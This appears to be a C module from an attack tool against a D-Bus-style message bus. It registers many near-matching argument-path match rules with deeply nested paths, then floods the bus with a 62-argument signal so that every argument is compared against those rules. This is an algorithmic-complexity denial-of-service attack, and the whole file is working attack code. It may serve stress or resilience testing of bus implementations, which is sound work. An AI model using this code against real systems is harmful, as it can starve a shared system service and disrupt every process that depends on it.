/* SPDX-License-Identifier: MIT */
#include "attack.h"
#include "rules.h"

#include <stdio.h>

#define ARGUMENTS 62
#define PATHS 31
#define DEEPEST 200
#define PATH_SIZE 512

static void deep_path(char *path, unsigned depth)
{
    *path++ = '/';
    for (unsigned i = 0; i < depth; i++) {
        *path++ = 'p';
        *path++ = '/';
    }
    *path = 0;
}

/* Its argNpath matches every signal below, its other argument matches none. */
static void deep_prefix(char *text, unsigned n)
{
    char path[PATH_SIZE];
    deep_path(path, n % RULES_EACH % DEEPEST);
    snprintf(text, RULE_MAX, "type='signal',arg%upath='%s',arg%u='q'", n % 30, path,
             PATHS + n / RULES_EACH % 30);
}

/* --count connections with rules that nearly match, and signals with every argument to be compared. */
void prefix_rules(void *argument)
{
    struct connection c = {0};
    struct buffer out = {0}, body = {0};
    char path[PATH_SIZE], signature[ARGUMENTS + 1] = "";
    (void)argument;
    hostile_set_uid();
    rules_join(attack_options.count, deep_prefix);
    attack_join(&c);
    deep_path(path, 250);
    for (int i = 0; i < ARGUMENTS; i++) {
        buffer_string(&body, i < PATHS ? path : "q");
        signature[i] = 's';
    }
    put_message(&out,
                &(struct header){.type = SIGNAL,
                                 .flags = NO_REPLY,
                                 .path = ATTACK_PATH,
                                 .interface = ATTACK_INTERFACE,
                                 .member = "Signal",
                                 .signature = signature},
                &body);
    process_ready();
    attack_flood(&c, &out, 1);
}
